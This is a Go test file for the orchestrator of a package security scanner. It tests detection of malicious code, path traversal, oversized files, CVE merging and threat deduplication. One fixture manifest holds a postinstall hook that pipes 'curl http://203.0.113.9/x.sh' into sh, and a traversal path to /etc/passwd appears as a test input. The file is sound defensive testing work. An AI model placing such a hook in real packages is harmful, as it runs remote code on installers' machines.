package orchestrator

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/nullvoid-dev/nullvoid/internal/config"
	"github.com/nullvoid-dev/nullvoid/internal/detector"
	"github.com/nullvoid-dev/nullvoid/internal/domain"
	"github.com/nullvoid-dev/nullvoid/internal/ioc"
)

func testOrchestrator(t *testing.T, iocMgr *ioc.Manager) *Orchestrator {
	t.Helper()
	cfg := config.Default()
	cfg.Cache.L2Enabled = false
	pipeline := detector.NewPipeline(cfg.Detector, nil, nil)
	return New(cfg, pipeline, iocMgr, nil, nil)
}

func writeFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestScanPathFindsMaliciousFile(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "index.js", "module.exports = router;\nconst b3=I,c4=J,d5=K;\n")
	writeFile(t, dir, "util.js", "function add(a, b) { return a + b; }\n")

	o := testOrchestrator(t, nil)
	report, err := o.ScanPath(context.Background(), dir)
	if err != nil {
		t.Fatalf("ScanPath: %v", err)
	}
	if report.Status != domain.ScanStatusCompleted {
		t.Fatalf("status = %s, want completed", report.Status)
	}

	var found *domain.Threat
	for i := range report.Threats {
		if report.Threats[i].Type == domain.ThreatMaliciousCodeStructure {
			found = &report.Threats[i]
		}
	}
	if found == nil {
		t.Fatal("expected a malicious-code-structure finding")
	}
	if found.Location.StartLine != 2 {
		t.Fatalf("line = %d, want 2", found.Location.StartLine)
	}
	if report.Risk.Overall <= 0 {
		t.Fatal("expected a non-zero risk score")
	}
}

func TestScanPathRejectsTraversalTarget(t *testing.T) {
	o := testOrchestrator(t, nil)
	report, err := o.ScanPath(context.Background(), "./pkg/../../etc/passwd")
	if err != nil {
		t.Fatalf("traversal must become a threat, not an error: %v", err)
	}
	if len(report.Threats) != 1 {
		t.Fatalf("expected exactly one threat, got %d", len(report.Threats))
	}
	if report.Threats[0].Type != domain.ThreatPathTraversal {
		t.Fatalf("type = %s, want path traversal", report.Threats[0].Type)
	}
}

func TestScanFileSizeBoundary(t *testing.T) {
	dir := t.TempDir()
	o := testOrchestrator(t, nil)
	o.cfg.MaxFileSize = 256

	exact := writeFile(t, dir, "exact.js", strings.Repeat("a", 256))
	over := writeFile(t, dir, "over.js", strings.Repeat("a", 257))

	threats, err := o.scanFile(context.Background(), exact, "")
	if err != nil {
		t.Fatalf("scanFile exact: %v", err)
	}
	for _, th := range threats {
		if th.Type == domain.ThreatFileTooLarge {
			t.Fatal("file at exactly the limit must be fully scanned")
		}
	}

	threats, err = o.scanFile(context.Background(), over, "")
	if err != nil {
		t.Fatalf("scanFile over: %v", err)
	}
	if len(threats) != 1 || threats[0].Type != domain.ThreatFileTooLarge {
		t.Fatalf("one byte over the limit must produce exactly one FileTooLarge, got %v", threats)
	}
}

func TestScanPathEmitsInstallScriptThreat(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "package.json", `{
  "name": "@acme/payload",
  "version": "1.0.0",
  "scripts": {"postinstall": "curl http://203.0.113.9/x.sh | sh"}
}`)
	writeFile(t, dir, "index.js", "module.exports = 1;\n")

	o := testOrchestrator(t, nil)
	report, err := o.ScanPath(context.Background(), dir)
	if err != nil {
		t.Fatalf("ScanPath: %v", err)
	}
	var hook bool
	for _, th := range report.Threats {
		if th.Type == domain.ThreatInstallScript && th.Severity == domain.SeverityCritical {
			hook = true
		}
	}
	if !hook {
		t.Fatal("expected a critical install-script finding from the manifest")
	}
	if report.Target.PackageName != "payload" || report.Target.PackageVersion != "1.0.0" {
		t.Fatalf("target = %+v, want manifest name/version", report.Target)
	}
}

func TestFinalizeThreatsKeepsDistinctLocationlessVulns(t *testing.T) {
	threats := []domain.Threat{
		{
			Type: domain.ThreatVulnerablePackage, Severity: domain.SeverityHigh,
			PackageName: "acme-utils",
			Metadata:    map[string]any{"vulnId": "CVE-2024-0001"},
		},
		{
			Type: domain.ThreatVulnerablePackage, Severity: domain.SeverityHigh,
			PackageName: "acme-utils",
			Metadata:    map[string]any{"vulnId": "CVE-2024-0002"},
		},
		{
			Type: domain.ThreatVulnerablePackage, Severity: domain.SeverityHigh,
			PackageName: "left-pad",
			Metadata:    map[string]any{"vulnId": "CVE-2024-0001"},
		},
		// exact duplicate of the first entry; the only one that may drop
		{
			Type: domain.ThreatVulnerablePackage, Severity: domain.SeverityHigh,
			PackageName: "acme-utils",
			Metadata:    map[string]any{"vulnId": "CVE-2024-0001"},
		},
	}
	out := finalizeThreats(threats)
	if len(out) != 3 {
		t.Fatalf("finalize kept %d threats, want 3 (distinct package/vuln pairs must survive)", len(out))
	}
}

func TestFinalizeThreatsSortsAndDedupes(t *testing.T) {
	threats := []domain.Threat{
		{Type: domain.ThreatObfuscatedCode, Severity: domain.SeverityMedium, Location: domain.CodeLocation{File: "b.js", StartLine: 3}},
		{Type: domain.ThreatWalletHijacking, Severity: domain.SeverityCritical, Location: domain.CodeLocation{File: "z.js", StartLine: 9}},
		{Type: domain.ThreatObfuscatedCode, Severity: domain.SeverityMedium, Location: domain.CodeLocation{File: "b.js", StartLine: 3}},
		{Type: domain.ThreatObfuscatedCode, Severity: domain.SeverityMedium, Location: domain.CodeLocation{File: "a.js", StartLine: 7}},
	}
	out := finalizeThreats(threats)
	if len(out) != 3 {
		t.Fatalf("dedup left %d threats, want 3", len(out))
	}
	if out[0].Severity != domain.SeverityCritical {
		t.Fatal("critical threat must sort first")
	}
	if out[1].Location.File != "a.js" || out[2].Location.File != "b.js" {
		t.Fatalf("equal severities must sort by file path: %s then %s", out[1].Location.File, out[2].Location.File)
	}
}

type fakeProvider struct {
	name    string
	results []domain.IoCResult
}

func (f *fakeProvider) Name() string                          { return f.name }
func (f *fakeProvider) IsAvailable(ctx context.Context) bool  { return true }
func (f *fakeProvider) Health(ctx context.Context) ioc.Health { return ioc.Health{Healthy: true} }
func (f *fakeProvider) Query(ctx context.Context, pkg domain.PackageDescriptor) ([]domain.IoCResult, error) {
	return f.results, nil
}

func TestPackagePhasesMergesSameCVEAcrossProviders(t *testing.T) {
	cve := domain.IoCResult{
		VulnID:   "CVE-2024-0001",
		Severity: domain.SeverityHigh,
		Summary:  "prototype pollution in acme-utils",
	}
	mgr := ioc.NewManager([]ioc.Provider{
		&fakeProvider{name: "osv", results: []domain.IoCResult{{Provider: "osv", PackageName: "acme-utils", VulnID: cve.VulnID, Severity: cve.Severity, Summary: cve.Summary}}},
		&fakeProvider{name: "ghsa", results: []domain.IoCResult{{Provider: "ghsa", PackageName: "acme-utils", VulnID: "GHSA-x-CVE-2024-0001", Severity: domain.SeverityMedium, Summary: cve.Summary}}},
	}, nil, nil, nil)

	o := testOrchestrator(t, mgr)
	pkg, err := DescriptorFor("acme-utils", "0.1.2")
	if err != nil {
		t.Fatal(err)
	}

	threats := o.packagePhases(context.Background(), pkg)
	var vulns []domain.Threat
	for _, th := range threats {
		if th.Type == domain.ThreatVulnerablePackage {
			vulns = append(vulns, th)
		}
	}
	if len(vulns) != 1 {
		t.Fatalf("same CVE from two providers must merge into one threat, got %d", len(vulns))
	}
	if vulns[0].Severity != domain.SeverityHigh {
		t.Fatalf("merged severity = %s, want the max (high)", vulns[0].Severity)
	}
	if vulns[0].Metadata["cve"] != "CVE-2024-0001" {
		t.Fatalf("metadata cve = %v", vulns[0].Metadata["cve"])
	}
}

func TestDescriptorForNameLengthBoundary(t *testing.T) {
	ok := strings.Repeat("a", 214)
	if _, err := DescriptorFor(ok, "1.0.0"); err != nil {
		t.Fatalf("214-character name must be valid: %v", err)
	}
	if _, err := DescriptorFor(ok+"a", "1.0.0"); err == nil {
		t.Fatal("215-character name must be rejected")
	}
}

func TestCleanVersionRange(t *testing.T) {
	cases := map[string]string{
		"^1.2.3":        "1.2.3",
		"~0.4.0":        "0.4.0",
		">=2.0.0 <3.0.0": "2.0.0",
		"1.0.0":         "1.0.0",
	}
	for in, want := range cases {
		if got := cleanVersionRange(in); got != want {
			t.Errorf("cleanVersionRange(%q) = %q, want %q", in, got, want)
		}
	}
}
